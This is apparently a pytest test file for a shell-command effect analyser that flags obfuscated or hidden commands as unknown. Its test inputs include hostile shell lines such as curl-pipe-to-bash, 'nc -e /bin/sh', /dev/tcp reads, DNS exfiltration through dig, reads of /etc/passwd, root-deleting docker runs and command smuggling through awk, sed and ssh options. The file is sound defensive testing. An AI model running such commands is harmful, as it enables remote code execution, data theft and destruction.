"""What shell scripts do: every command counts, and what hides what it does is UNKNOWN."""

from __future__ import annotations

import random
from dataclasses import replace

import pytest
import tree_sitter_bash
from hypothesis import given
from hypothesis import strategies as st
from tree_sitter import Language, Parser

from pdp.programs.model import (
    MAX_PROGRAM_BYTES,
    CommandEffect,
    Effect,
    FileEffect,
    HttpEffect,
    Program,
    SqlEffect,
)
from pdp.programs.shell import MAX_EFFECTS, may_end_in_a_break, parse_shell
from pdp.programs.sql import parse_sql
from writ.action import Verb

_CLIENTS = {"psql": "postgres", "mysql": "mysql", "sqlite3": "sqlite"}
_STATEMENT = "delete from invoices where customer_id = 7"


def parse(text: str) -> Program:
    return parse_shell(text, _CLIENTS)


def is_unknown(program: Program) -> bool:
    told = any(isinstance(effect, CommandEffect) and effect.verb is Verb.UNKNOWN for effect in program.effects)
    assert told is bool(program.findings)
    return told


def file(verb: Verb, *paths: str, everything: bool = False) -> FileEffect:
    return FileEffect(verb=verb, paths=paths, everything=everything)


def execute(program: str, verb: Verb = Verb.EXECUTE) -> CommandEffect:
    return CommandEffect(verb=verb, program=program)


@pytest.mark.parametrize(
    ("text", "target"),
    [
        (f'psql -c "{_STATEMENT}"', ""),
        (f"psql --command='{_STATEMENT}'", ""),
        (f"/usr/bin/psql -X -qAtc '{_STATEMENT}'", ""),
        (f"psql -d billing -c '{_STATEMENT}'", "billing"),
        (f"psql -h billing-db.internal -p 5432 -c '{_STATEMENT}'", "billing-db.internal"),
        (f"psql -h db -c '{_STATEMENT}' billing bob", "db/billing"),
        (f"psql -h db -p 5433 -c '{_STATEMENT}'", "db:5433"),
        (f"psql postgresql://bob:pw@db:5432/billing -c '{_STATEMENT}'", "db/billing"),
        (f"psql <<EOF\n{_STATEMENT};\nEOF", ""),
        (f"psql <<-'EOF'\n\t{_STATEMENT};\n\tEOF\n", ""),
        (f"psql <<< '{_STATEMENT}'", ""),
        (f"PGPASSWORD=x psql -c '{_STATEMENT}'", ""),
        (f"env LANG=C nohup timeout 5 psql -c '{_STATEMENT}'", ""),
        (f"bash -c \"psql -c '{_STATEMENT}'\"", ""),
    ],
)
def test_sql_handed_to_a_client_has_exactly_the_effects_of_that_sql(text: str, target: str) -> None:
    expected = parse_sql(_STATEMENT, "postgres")
    effects = tuple(
        replace(effect, client="psql", target=target) for effect in expected.effects if isinstance(effect, SqlEffect)
    )
    assert len(effects) == len(expected.effects) == 1
    assert parse(text) == Program(effects=effects, findings=expected.findings)


def test_other_clients_speak_their_own_dialect() -> None:
    mysql = parse(f"mysql -u bob -psecret -h db -e '{_STATEMENT}' billing").effects
    sqlite = parse(f"sqlite3 -json /srv/a.db '{_STATEMENT}'").effects
    assert [(e.client, e.target, e.table) for e in (*mysql, *sqlite) if isinstance(e, SqlEffect)] == [
        ("mysql", "db/billing", "invoices"),
        ("sqlite3", "/srv/a.db", "invoices"),
    ]


@pytest.mark.parametrize(
    "text",
    [
        "psql",
        "psql -f a.sql",
        "psql < a.sql",
        "cat a.sql | psql",
        'psql -c "$sql"',
        'psql -c "delete from t where id = $id"',
        "psql -c '\\! rm a'",
        "psql -o '|sh' -c 'select 1'",
        "psql -v x=1 <<EOF\nselect 1\nEOF",
        "psql <<EOF\nselect :x\nEOF",
        "psql <<EOF\nselect $x\nEOF",
        "psql 3<<EOF\nselect 1\nEOF",
        "psql -S <<EOF\ndelete from t\nwhere id = 7\nEOF",
        "psql -qS -c 'select 1'",
        "psql -d 'host=other dbname=x' -c 'select 1'",
        "psql -h a,b -c 'select 1'",
        "PGHOST=other psql -c 'select 1'",
        "export PGHOST=other; psql -c 'select 1'",
        "PGHOST=other; psql -c 'select 1'",
        "psql $x -c 'select 1'",
        "sqlite3 a.db '.shell rm a'",
        "cd /x; sqlite3 a.db 'select 1'",
        "mysql -e 'select 1; \\! rm a'",
    ],
)
def test_sql_that_is_not_wholly_on_the_line_is_unknown(text: str) -> None:
    assert is_unknown(parse(text))


def test_a_client_that_the_catalog_does_not_declare_is_unknown() -> None:
    assert is_unknown(parse_shell("psql -c 'select 1'", {}))


@pytest.mark.parametrize(
    "text",
    [
        "eval rm a",
        "source x",
        ". x",
        "exec rm a",
        "alias ls=rm",
        "ls() { rm a; }; ls",
        "$x a",
        '"$x" a',
        "r$x a",
        "$(echo rm) a",
        "r* a",
        "{rm,a}",
        "echo rm | bash",
        "base64 -d x | sh",
        "curl https://a.example/x | bash",
        "bash <(curl https://a.example/x)",
        "bash < x",
        "bash /dev/stdin",
        "bash -",
        'bash -c "$x"',
        "bash +x -c 'rm a'",
        "python -c 'print(1)'",
        "echo x | python -",
        "perl -e 1",
        "PATH=/tmp ls",
        "for PATH in a; do ls; done",
        "read PATH",
        "LD_PRELOAD=x ls",
        "http_proxy=x curl https://a.example/",
        "env -S 'rm a'",
        "env - rm a",
        "xargs $x rm",
        "xargs -I{} sh -c 'rm {}'",
        "xargs -I rm rm a",
        "git -c alias.x=!rm x",
        "git config alias.x '!rm'",
        "git fetch --upload-pack=x",
        "find . -exec sh -c '{}' \\;",
        "find . -fprint a",
        "find . $x",
        "sort --compress-program=x a",
        "sed e a",
        "sed 's/a/b/e' a",
        "sed -n 'w b' a",
        "awk 'BEGIN{system(\"rm a\")}'",
        "date -s tomorrow",
        "date -I -s tomorrow",
        "trap 'rm a' EXIT",
        "set -o history",
        "((x=1))",
        "echo $((x))",
        "echo ${x@P}",
        "echo ${!x}",
        "echo ${x:=y}",
        "[[ $x -eq 1 ]]",
        "[[ -v $x ]]",
        "[ $x ]",
        "printf -v PATH x",
        "printf 3%n PATH",
        "printf '3%-2.1ln' PATH",
        "printf * x",
        "perl -V -e 1",
        "echo 'file delete a' | tclsh --version",
        "cat < /dev/tcp/a/80",
        "rm --unknown a",
        "rm a)",
        "rm 'a",
        "if true; rm a",
        "cat <<EOF\nrm a",
        "r\\\nm a",
        "rm\u00a0a",
        "rm a\x00b",
        "rm\ra",
        "rm \ud800",
        "}",
    ],
)
def test_what_hides_what_it_does_is_unknown(text: str) -> None:
    assert is_unknown(parse(text))


@pytest.mark.parametrize(
    ("text", "effects"),
    [
        ("rm a", [file(Verb.DELETE, "a")]),
        ("r\\m 'a'\"b\"c\\ d", [file(Verb.DELETE, "abc d")]),
        ("rm -- -f", [file(Verb.DELETE, "-f")]),
        ("rm -rf /tmp//x/./y/", [file(Verb.DELETE, "/tmp/x/y", everything=True)]),
        ("rm *.txt", [file(Verb.DELETE, "*.txt", everything=True)]),
        ("rm '*.txt'", [file(Verb.DELETE, "*.txt")]),
        ("rm a $x", [file(Verb.DELETE, everything=True)]),
        ("rm ~/a", [file(Verb.DELETE, everything=True)]),
        ("rm ../a", [file(Verb.DELETE, everything=True)]),
        ("cd b && rm a /c", [file(Verb.DELETE, everything=True)]),
        ("cd b && rm /c", [file(Verb.DELETE, "/c")]),
        ("mv a b", [file(Verb.DELETE, "a", everything=True), file(Verb.UPDATE, "b", everything=True)]),
        ("cp a b", [file(Verb.READ, "a"), file(Verb.UPDATE, "b")]),
        ("cp -t b a", [file(Verb.READ, "a"), file(Verb.UPDATE, "b")]),
        ("cat < a > b 2>&1", [file(Verb.READ, "a"), file(Verb.UPDATE, "b")]),
        ("cat 2>/dev/null a >> b c", [file(Verb.UPDATE, "b"), file(Verb.READ, "a", "c")]),
        ("> a rm b", [file(Verb.UPDATE, "a"), file(Verb.DELETE, "b")]),
        ("make test |& tee log", [execute("make"), file(Verb.UPDATE, "log")]),
        ("./rm a", [execute("./rm")]),
        ("sudo rm a", [execute("sudo", Verb.ADMIN), file(Verb.DELETE, "a")]),
        ("chmod -R +x a", [file(Verb.ADMIN, "a", everything=True)]),
        ("xargs rm < a", [file(Verb.READ, "a"), file(Verb.DELETE, everything=True)]),
        (
            "find a -name '*.py' -delete",
            [file(Verb.READ, "a", everything=True), file(Verb.DELETE, "a", everything=True)],
        ),
        ("find a -exec rm {} +", [file(Verb.READ, "a", everything=True), file(Verb.DELETE, everything=True)]),
        ("bash -ec \"rm a; sh -c 'rm b'\"", [file(Verb.DELETE, "a"), file(Verb.DELETE, "b")]),
        ("bash <<'E'\nrm a\nE", [file(Verb.DELETE, "a")]),
        ("bash a.sh", [file(Verb.READ, "a.sh"), execute("bash")]),
        ("grep -r x a", [file(Verb.READ, "a", everything=True)]),
        ("ls --color a", [file(Verb.READ, "a", everything=True)]),
        ("sed -n '1,5p' a", [file(Verb.READ, "a")]),
        ("sed -i 's/a/b/' c", [file(Verb.UPDATE, "c")]),
        ("awk '{print $1}' a", [file(Verb.READ, "a")]),
        ("git push origin main", [execute("git", Verb.SEND)]),
        ("git reset --hard", [execute("git", Verb.DELETE)]),
        ("git status", [execute("git")]),
        ('[ "$n" -gt 5 ] && rm a', [file(Verb.DELETE, "a")]),
        ("case $1 in a|b) rm a;; esac", [file(Verb.DELETE, "a")]),
        ("echo hi $x; true  # rm b", []),
    ],
)
def test_commands_have_the_effects_of_their_words(text: str, effects: list[Effect]) -> None:
    program = parse(text)
    assert list(program.effects) == effects
    assert program.findings == ()


@pytest.mark.parametrize(
    "text",
    [
        "true; rm a",
        "false || rm a &",
        "! rm a",
        "(rm a)",
        "{ rm a; } > /dev/null",
        "if false; then rm a; fi",
        "while true; do rm a; done",
        "for i in 1 2; do rm a; done",
        "for i in $(rm a); do true; done",
        "case x in y) rm a;; esac",
        "echo $(rm a)",
        'echo "b $(rm a)"',
        "echo `rm a`",
        "x=$(rm a)",
        "X=$(rm a)",
        "f() { rm a; }",
        "cat <(rm a)",
        "echo x > >(rm a)",
        "cat <<E\n$(rm a)\nE",
        "cat <<E | rm a\nx\nE",
        "cat <<E && rm a\nx\nE",
        "cat <<< $(rm a)",
        '[[ -n "$(rm a)" ]]',
        "[[ b =~ $(rm a) ]]",
        "$(echo rm) b; rm a",
    ],
)
def test_a_command_counts_wherever_it_stands(text: str) -> None:
    assert file(Verb.DELETE, "a") in parse(text).effects


def test_a_quoted_here_document_runs_nothing() -> None:
    assert parse("cat <<'E'\n$(rm a)\nE").effects == ()


@pytest.mark.parametrize(
    "text",
    [
        "cat a <<E\nx `rm b`\nE\n",
        "cat a <<E\n $(rm b)\nE\n",
        "cat a <<E\nx\n $(rm b)\nE\n",
        "cat a <<-E\n\t$(rm b)\n\tE\n",
        "cat a <<E\n$\\\n(rm b)\nE\n",
        "cat a <<E\n${q:-'$(rm b)'}\nE\n",
        "cat a <<EOF\nE\\\nOF\nrm b\nEOF\n",
        "cat a; echo ${HOME##$(rm b)}",
        "cat a; echo ${HOME%x`rm b`}",
        "cat a; echo ${HOME/x/$(rm b)}",
        "cat a; echo ${q:-`rm b`}",
        'cat a; echo "${q:-`rm b`}"',
        'cat a; [ x = "${q:-`rm b`}" ]',
        "cat a; y=${q:-`rm b`}",
        "cat a > ${q:-`rm b`}",
        "cat a; echo \"${q:-'$(rm b)'}\"",
        "cat a; echo ${q:-<(rm b)}",
        "cat a; [[ x =~ <(rm b) ]]",
        'cat a; echo "$\\\n(rm b)"',
        "echo `true # ` ; rm b\n`",
        "y='a[$(rm b)]'; cat a; echo ${HOME:y}",
        "y='a[$(rm b)]'; cat a; echo ${HOME:0:y}",
        "cat a; true & wait -n -p 'a[$(rm b)]'",
        "cat a {x['$(rm b)']}>f",
        "cat a {x['$(rm b)']}<<<y",
        "cat a {PATH}>f",
        "jobs -x rm b",
        "cat a <<E\n,$((1+$'$(rm b)'))\nE\n",
        "cat a; ((x='$(rm b)'))",
        "cat a; declare y=$\n! rm b\n",
        "cat a; y={${HOME#$HOME{x,}; rm b;}:}",
        "cat a <<E\n${q:?<\\\n(rm b)}\nE\n",
        'head -n 1 "`echo "`echo $\'$(rm b)\'`"`"',
    ],
)
def test_what_bash_runs_in_an_expansion_is_unknown_where_the_grammar_takes_it_for_text(text: str) -> None:
    assert is_unknown(parse(text))


@pytest.mark.parametrize(
    "text",
    [
        "cat a <<'E'\n $(rm b) `rm b`\nE\n",
        "cat a <<E\nx \\`rm b\\`\nE\n",
        "cat a <<E\n${x} <(rm b)\nE\n",
        "cat a # $(rm b) `rm b`",
        "cat a; echo '$(rm b)' $'`rm b`' \\$x \"<(rm b) \\`\"",
        "cat a; echo ${f%%.*} ${f##*/} ${f#${d}/} ${f:0:3} ${q:-x}",
        'cat a; echo "${d}/${f%.txt}"',
        "cat a; wait 7; wait",
    ],
)
def test_what_bash_takes_for_text_runs_nothing(text: str) -> None:
    program = parse(text)
    assert list(program.effects) == [file(Verb.READ, "a")]
    assert program.findings == ()


def test_curl_sends_files_and_requests() -> None:
    program = parse("curl -sX PUT -d @keys.txt -o out https://API.example/customers/7?x=1")
    assert program.findings == ()
    assert program.effects == (
        file(Verb.READ, "keys.txt"),
        HttpEffect(
            method="PUT",
            scheme="https",
            host="api.example",
            path=("customers", "7"),
            query=(("x", "1"),),
            sends_body=True,
            url="https://API.example/customers/7?x=1",
        ),
        file(Verb.UPDATE, "out"),
    )


@pytest.mark.parametrize(
    ("text", "method", "body"),
    [
        ("curl https://a.example/b", "GET", None),
        ("curl -I https://a.example/b", "HEAD", None),
        ("curl -d x=1 -d y=2 https://a.example/b", "POST", b"x=1&y=2"),
        ("curl --json '{\"a\":1}' https://a.example/b", "POST", b'{"a":1}'),
        ("curl -T f https://a.example/b", "PUT", None),
        ("wget -qO- --post-data=x=1 https://a.example/b", "POST", b"x=1"),
    ],
)
def test_requests_have_the_method_that_their_options_mean(text: str, method: str, body: bytes | None) -> None:
    requests = [effect for effect in parse(text).effects if isinstance(effect, HttpEffect)]
    assert [(request.method, request.body) for request in requests] == [(method, body)]


def test_the_graver_method_counts_when_a_header_overrides_it() -> None:
    program = parse("curl -X POST -H 'X-HTTP-Method-Override: DELETE' https://a.example/b")
    assert [effect.method for effect in program.effects if isinstance(effect, HttpEffect)] == ["DELETE"]
    assert program.findings


@pytest.mark.parametrize(
    "arguments",
    [
        "https://a.example/$x",
        "https://a.example/{b,c}",
        "'https://a.example/[1-3]'",
        "a.example/b",
        "-x proxy https://a.example/b",
        "-K file https://a.example/b",
        "-H 'Host: b' https://a.example/b",
        "-H @file https://a.example/b",
        "--resolve a:1:2 https://a.example/b",
        "-F 'a=@b,c' https://a.example/b",
        "-w @file https://a.example/b",
        "file:///etc/passwd",
        "",
    ],
)
def test_a_request_that_may_go_elsewhere_is_unknown(arguments: str) -> None:
    assert is_unknown(parse(f"curl {arguments}"))


@pytest.mark.parametrize("option", ["curl -A", "curl -e", "curl -b", "curl --oauth2-bearer", "curl -H", "wget -U"])
@pytest.mark.parametrize(
    "word", [r"$'a: b=\nX-HTTP-Method-Override: DELETE'", "'a: b=\n\nDELETE / HTTP/1.1'", '"a: b=$x"']
)
def test_no_option_of_a_request_brings_a_header_of_its_own(option: str, word: str) -> None:
    assert is_unknown(parse(f"{option} {word} https://a.example/b"))


@pytest.mark.parametrize(
    ("url", "written"),
    [
        ("https://a.example/b?c=1", file(Verb.UPDATE, "b?c=1")),
        ("https://a.example/.bash%72c", file(Verb.UPDATE, everything=True)),
    ],
)
def test_a_download_is_named_by_its_url_where_wget_decodes_nothing(url: str, written: FileEffect) -> None:
    assert parse(f"wget '{url}'").effects[-1] == written


@pytest.mark.parametrize("value", ["$TOKEN", "Bearer $API_TOKEN", "Bearer ${OPENAI_API_KEY}", "a-$JWT"])
def test_a_credential_of_the_environment_may_stand_in_a_header(value: str) -> None:
    plain = parse("curl https://a.example/b")
    assert parse(f'curl -H "Authorization: {value}" https://a.example/b') == plain
    assert is_unknown(parse(f'curl -H "{value}: a" https://a.example/b'))
    assert is_unknown(parse(f'curl -H "X-Http-Method: {value}" https://a.example/b'))


@pytest.mark.parametrize(
    "script",
    [
        'TOKEN=x; curl -H "A: $TOKEN" https://a.example/b',
        'read TOKEN; curl -H "A: $TOKEN" https://a.example/b',
        'curl -H "A: $PGPASSWORD" https://a.example/b',
        'curl -H "A: $token" https://a.example/b',
        'curl -H "A: $TOKENx" https://a.example/b',
        'curl -H "A: $TOKEN$x" https://a.example/b',
        'curl -H "A: ${TOKEN:-$x}" https://a.example/b',
        'curl -H "A: $(cat TOKEN)" https://a.example/b',
        "curl -H A:$TOKEN https://a.example/b",
    ],
)
def test_a_variable_that_the_script_may_set_stands_in_no_header(script: str) -> None:
    assert is_unknown(parse(script))


def test_a_script_without_bound_is_unknown() -> None:
    assert is_unknown(parse("true;" * MAX_PROGRAM_BYTES))
    assert is_unknown(parse("rm \u00fc;" * (MAX_PROGRAM_BYTES // 5)))
    assert is_unknown(parse("(" * 200 + "rm a" + ")" * 200))
    assert is_unknown(parse("echo " + "$(" * 2000 + "a" + ")" * 2000))
    assert is_unknown(parse("nohup " * 100 + "rm a"))
    many = parse("rm a;" * (MAX_EFFECTS + 10))
    assert is_unknown(many)
    assert len(many.effects) == MAX_EFFECTS + 1


@given(st.text(alphabet=" abrm-x$(){}[]'\"`\\<>|&;#*~!=/\n\té", max_size=40))
def test_odd_text_never_raises(text: str) -> None:
    is_unknown(parse(text))


@given(st.text(alphabet=st.characters(exclude_characters="\x00", exclude_categories=["C", "Z"]), min_size=1))
def test_a_quoted_word_is_that_file(name: str) -> None:
    name = "x" + name.replace("/", "_")
    quoted = "'" + name.replace("'", "'\\''") + "'"
    assert parse(f"rm {quoted}").effects == (file(Verb.DELETE, name),)


@pytest.mark.parametrize(
    ("text", "verb"),
    [
        ("kubectl get pods -n prod", Verb.EXECUTE),
        ("kubectl -n prod delete namespace old", Verb.DELETE),
        ('kubectl -n "$x" get pods', Verb.EXECUTE),
        ("kubectl create clusterrolebinding all --clusterrole=admin --user=bob", Verb.ADMIN),
        ("docker ps -a", Verb.EXECUTE),
        ("docker rm -f web", Verb.DELETE),
        ("docker system prune -af", Verb.DELETE),
        ("terraform plan", Verb.EXECUTE),
        ("terraform destroy -auto-approve", Verb.DELETE),
        ("terraform apply -destroy", Verb.DELETE),
        ("aws ec2 describe-instances --region eu-west-1", Verb.EXECUTE),
        ("aws --region eu-west-1 ec2 terminate-instances --instance-ids i-1", Verb.DELETE),
        ("aws s3 rm s3://invoices/ --recursive", Verb.DELETE),
        ("aws iam create-access-key --user-name bob", Verb.ADMIN),
        ("aws iam attach-user-policy --user-name bob --policy-arn x", Verb.ADMIN),
        ("gcloud compute instances delete web --quiet", Verb.DELETE),
        ("gcloud projects add-iam-policy-binding p --member=x --role=y", Verb.ADMIN),
        ("az group delete -n old --yes", Verb.DELETE),
        ("gh repo delete owner/old --yes", Verb.DELETE),
        ("helm uninstall web", Verb.DELETE),
        ("redis-cli -h cache flushall", Verb.DELETE),
        ("redis-cli GET invoice:3", Verb.EXECUTE),
        ("rsync -a --delete a/ b/", Verb.DELETE),
        ("dropdb billing", Verb.DELETE),
        ("mkfs.ext4 /dev/sda1", Verb.DELETE),
        ("crontab -r", Verb.DELETE),
        ("useradd bob", Verb.ADMIN),
        ("iptables -F", Verb.ADMIN),
    ],
)
def test_a_tool_with_subcommands_tells_the_gravest_that_its_words_ask_for(text: str, verb: Verb) -> None:
    assert {effect.verb for effect in parse(text).effects if isinstance(effect, CommandEffect)} == {verb}


def test_a_tool_that_sends_also_runs() -> None:
    for text, program in (("docker push shop/web", "docker"), ("npm publish", "npm"), ("scp a host:/b", "scp")):
        assert parse(text).effects == (execute(program, Verb.SEND), execute(program))


@pytest.mark.parametrize(
    "wrapper",
    [
        *(
            "systemd-run",
            "strace -f",
            "taskset -c 0",
            "taskset 0x1",
            "chrt -f 10",
            "setpriv --no-new-privs",
            "unbuffer",
        ),
        *("prlimit --nofile=10", "cpulimit -l 50 --"),
    ],
)
def test_a_wrapper_does_what_it_runs(wrapper: str) -> None:
    assert parse(f"{wrapper} rm a").effects == (file(Verb.DELETE, "a"),)


def test_the_loader_does_what_it_runs() -> None:
    assert parse("/lib64/ld-linux-x86-64.so.2 /bin/rm a").effects == (file(Verb.DELETE, "a"),)
    assert is_unknown(parse("/lib64/ld-linux-x86-64.so.2 --preload x /bin/ls"))


@pytest.mark.parametrize(
    ("text", "verbs"),
    [
        ("ssh host rm -rf /srv", {Verb.DELETE}),
        ("ssh -i k -o StrictHostKeyChecking=no bob@host 'cd /srv; rm -rf x'", {Verb.DELETE}),
        ("ssh host <<'E'\nrm -rf /srv\nE\n", {Verb.DELETE}),
        ("ssh host -t sudo reboot", {Verb.ADMIN}),
        ("ssh host 'cat > x' < a", {Verb.SEND}),
        ("ssh host uptime", set()),
        ("kubectl exec x -- rm -rf /srv", {Verb.DELETE}),
        ("kubectl exec x -- sh -c 'rm -rf /srv'", {Verb.DELETE}),
        ("kubectl exec x -- ls /srv", set()),
        ("docker exec x sh -c 'rm -rf /srv'", {Verb.DELETE}),
        ("docker exec -it x bash", set()),
        ("docker exec -i x sh <<'E'\nrm -rf /srv\nE\n", {Verb.DELETE}),
        ("docker exec -it -u root x find / -delete", {Verb.DELETE}),
        ("docker exec x psql -c 'delete from invoices'", {Verb.DELETE}),
        ("docker -H host exec -eA=b --workdir /srv x psql -c 'select 1'", set()),
        ("docker compose exec x chmod 777 a", {Verb.ADMIN}),
        ("docker exec -- x find a -delete", {Verb.DELETE}),
        ("docker exec x shred -u -- a", {Verb.DELETE}),
        ("docker run -v/srv:/a alpine unlink /a/b", {Verb.DELETE}),
        ("docker run -itv /srv:/a alpine find /a -delete", {Verb.DELETE}),
        ("docker run -v=/srv:/a alpine unlink /a/b", {Verb.DELETE}),
        ("kubectl run x --image y --command -- find /a -delete", {Verb.DELETE}),
        ("docker run --rm -v /:/h --entrypoint=sh alpine -c 'rm -rf /h'", {Verb.DELETE}),
        ("docker run --rm -v /:/h bash:5 -c 'rm -rf /h'", {Verb.DELETE}),
        ("docker run -d mysql:8 --character-set-server=utf8mb4", set()),
        ('docker run --rm -v "$PWD":/w -w /w node:20 npm test', set()),
        ("kubectl exec x -c y curl -d @a https://a.example/b", {Verb.SEND}),
        ("kubectl -n run exec x -- find / -delete", {Verb.DELETE}),
        ("at now <<< 'rm a'", {Verb.DELETE}),
        ("nc host 80 < a", {Verb.SEND}),
        ("telnet host", {Verb.SEND}),
        ("sftp host <<< 'put a'", {Verb.SEND}),
        ("dig $(cat a).host.example", {Verb.SEND}),
        ("scp -o BatchMode=yes a host:", {Verb.SEND}),
        ("rsync -a -e 'ssh -p 22' a host:", {Verb.SEND}),
        ("rsync -a host:x .", set()),
        ("rsync -a --delete a/ host:b", {Verb.DELETE, Verb.SEND}),
        ("aws s3 cp a s3://bucket", {Verb.SEND}),
        ("aws s3 cp s3://bucket/a .", set()),
        ("gsutil cp a gs://bucket", {Verb.SEND}),
        ("rclone copy a there:b", {Verb.SEND}),
        ('rclone copy a "$there"', {Verb.SEND}),
    ],
)
def test_what_runs_or_goes_elsewhere_is_told_with_its_tool(text: str, verbs: set[Verb]) -> None:
    program = parse(text)
    assert program.findings == ()
    assert {e.verb for e in program.effects if isinstance(e, CommandEffect)} - {Verb.EXECUTE} == verbs


@pytest.mark.parametrize(
    "text",
    [
        "ssh -o ProxyCommand='rm b' host ls",
        'ssh host "$x"',
        "echo 'rm a' | ssh host bash",
        "ssh host < a",
        "scp -S ./x a host:",
        "scp -D ./x a host:",
        "ssh -I ./x.so host ls",
        "ssh -F ./x host ls",
        "sftp -D ./x",
        "sftp -b x host",
        "sftp host < a",
        "sftp host <<< '!rm a'",
        "rsync -e './x' a host:",
        "rsync -ave './x' a host:",
        "rsync -e./x ssh host:",
        "rsync --rsync-path='rm a; rsync' a host:",
        "nc -e /bin/sh host 1",
        "at now < a",
        'docker exec x sh -c "$x"',
        'docker exec x "$x"',
        "docker exec x python -c 'x'",
        "docker exec -i x bash < a",
        "cat a | docker exec -i x psql",
        "tmux new -d 'rm a'",
    ],
)
def test_what_hides_its_command_from_elsewhere_is_unknown(text: str) -> None:
    assert is_unknown(parse(text))


@pytest.mark.parametrize("text", ["kubectl $x namespace old", "terraform $(cat x)", "aws s3 $x", "docker *"])
def test_a_tool_whose_subcommand_is_not_literal_is_unknown(text: str) -> None:
    assert is_unknown(parse(text))


@pytest.mark.parametrize(
    ("text", "want"),
    [
        ("sed -i 's/a/b/' x", [file(Verb.UPDATE, "x")]),
        ("sed -i.bak 's/a/b/' x", [file(Verb.UPDATE, "x"), file(Verb.UPDATE, "x.bak")]),
        ("sed --in-place=.bak -e 's/a/b/' x", [file(Verb.UPDATE, "x"), file(Verb.UPDATE, "x.bak")]),
        ("sed -in 's/a/b/' x", [file(Verb.UPDATE, "x"), file(Verb.UPDATE, "xn")]),
        ("sed -n '/from/,/to/p' x", [file(Verb.READ, "x")]),
        ("sed 's#/a#/b#g; s|c|d|' x", [file(Verb.READ, "x")]),
        ("sed -E 's/[0-9]+\\.x/y/' x", [file(Verb.READ, "x")]),
        ("awk -F: '$3 > 1000 {print $1}' x", [file(Verb.READ, "x")]),
        ("awk '/a/ || /b/ {print $1 \"\\t\" $2}' x", [file(Verb.READ, "x")]),
        ("jq --arg id 3 '.[] | select(.id == $id)' x", [file(Verb.READ, "x")]),
        ("awk -v n=1 '{print n}' m=2 ./a=b x", [file(Verb.READ, "a=b", "x")]),
        ("awk '/a|b/ && $2 !~ /^(c|d)$/ {print $1}' x", [file(Verb.READ, "x")]),
        ("jq --slurpfile all y '.a' x", [file(Verb.READ, "y"), file(Verb.READ, "x")]),
        ('jq --tab -R ".[$i]" x', [file(Verb.READ, "x")]),
        ("jq -rf filter x", [file(Verb.READ, "filter", "x", everything=True)]),
        ("sed -E '/^[[:space:]]*#/d; s/[[:digit:]]+$//' x", [file(Verb.READ, "x")]),
        ("rg -n --hidden x", [file(Verb.READ, ".", everything=True)]),
        ('grep "a$x" y', [file(Verb.READ, "y")]),
        ('grep "$x" y', [file(Verb.READ, "y", everything=True)]),
        ("rg --files -g '*.py' src", [file(Verb.READ, "src", everything=True)]),
        ("rg -e 'a b' -f patterns src", [file(Verb.READ, "patterns"), file(Verb.READ, "src", everything=True)]),
        ("fd -e py . src", [file(Verb.READ, "src", everything=True)]),
        ("paste -d, x y | column -t", [file(Verb.READ, "x", "y")]),
        ("comm -12 x y", [file(Verb.READ, "x", "y")]),
        ("zcat x.gz | zgrep -c y", [file(Verb.READ, "x.gz")]),
        ("hexdump -C x", [file(Verb.READ, "x")]),
        ("xxd -l 16 x", [file(Verb.READ, "x")]),
        ("xxd -r x y", [file(Verb.READ, "x"), file(Verb.UPDATE, "y")]),
        ("xxd x -r", [file(Verb.READ, "x"), file(Verb.UPDATE, "-r")]),
        ("tar -tzf x.tgz", [file(Verb.READ, "x.tgz")]),
        ("tar -xzf x.tgz", [execute("tar")]),
        ("tar tf host:x", [execute("tar")]),
        ("tar tf x *", [execute("tar")]),
        ("tar tfz x", [file(Verb.READ, "x")]),
        ("tar -tfz x", [execute("tar")]),
        ("find . -newermt 2026-01-01 -name '*.py'", [file(Verb.READ, ".", everything=True)]),
        ('find . -name "$x"', [file(Verb.READ, ".", everything=True)]),
        ("awk '{print $1 \" -> \" $2 # a | b\n}' x", [file(Verb.READ, "x")]),
        ("awk -F, '{print $1 \"|\" ($2 + $3) / 2}' x", [file(Verb.READ, "x")]),
        ("awk '/^[[:space:]]*(a|b)/ {next} /c>d/ {print}' x", [file(Verb.READ, "x")]),
        ("jq --arg --slurpfile x . y", [file(Verb.READ, "y")]),
        ("python3 --version; perl -V", []),
        ("tar tf x -I ./y", [execute("tar")]),
        ("ps aux; free -h; which python3; uptime; hostname -f", []),
        ("hostname evil", [execute("hostname", Verb.ADMIN)]),
        ('BRANCH=$(cat x); echo "$BRANCH"', [file(Verb.READ, "x")]),
        ("git config --get user.name", [execute("git")]),
        ("git reflog expire --all", [execute("git", Verb.DELETE)]),
        ("psql -c '\\dt' billing", [SqlEffect(verb=Verb.READ, table="", client="psql", target="billing")]),
        ("sqlite3 x.db .tables", [SqlEffect(verb=Verb.READ, table="", client="sqlite3", target="x.db")]),
    ],
)
def test_common_spellings_of_reads_and_edits_are_understood(text: str, want: list[Effect]) -> None:
    assert list(parse(text).effects) == want


@pytest.mark.parametrize(
    "text",
    [
        "sed 's/a/b/e' x",
        """awk '{print "~ /" | "rm x /"}' y""",
        """awk '{print 1 /2 | "rm x" /1}' y""",
        """awk '/[/"]/ {print "/" | "rm x"}' y""",
        # An expression that begins unseen turns texts and code about behind it.
        """awk 'BEGIN {c = "rm x"; print /"/ ~ /";~/ , 1 | c; x = 1/2}' y""",
        """awk 'BEGIN {c = "rm x"; if (1) x = /"/; print " | c; x = "1}' y""",
        """awk '{if (1) /"/ ; print " " | c ; x = "/"}' y""",
        """awk '{x\n/"/ ; print 1 | c ; x = "/"}' y""",
        """awk '/[^]/ " ]/ {print 1 | c; y = " "}' y""",
        """awk '/[[:alpha:]/"]/ {print 1 | c; y = "/"}' y""",
        """awk '{print 1 # \\ "\n | c # "\n}' y""",
        """awk '{print length /"/ ; print 1 | c ; x = "/"}' y""",
        """awk '{SYMTAB["AR" "GV"] = 1}' y""",
        'rg x "$y"',
        'tree "$x"',
        "file *",
        "find . -name $x",
        "find . -name *",
        "find . -name",
        """awk '/[]/|]/ {print | "rm x"}' y""",
        """awk '{print # ~ /\n | "rm x" # /\n}' y""",
        """awk '{print $1 | $2}' y""",
        """awk '/a|b/ {print | "rm x"}' y""",
        """awk '$1 ~ /a|b/ {"rm x" | getline}' y""",
        "sed 's#a#b#w out' x",
        "sed 's|a|b|e' x",
        "sed '/a/,/b/w out' x",
        "sed 'p\nw out' x",
        "sed '1e rm x' x",
        "sed -i '' 's/a/b/' x",
        "sed 's/a\\\n/b/' x",
        "sed '' x",
        "awk '{print $1 > \"out\"}' x",
        "awk '$1 > 2 {print} {print > \"out\"}' x",
        "awk '{print | \"sh\"}' x",
        "awk '{print || $1 | \"sh\"}' x",
        "awk '{sys\\\ntem(\"rm x\")}' x",
        "jq --arg $x '.a' y",
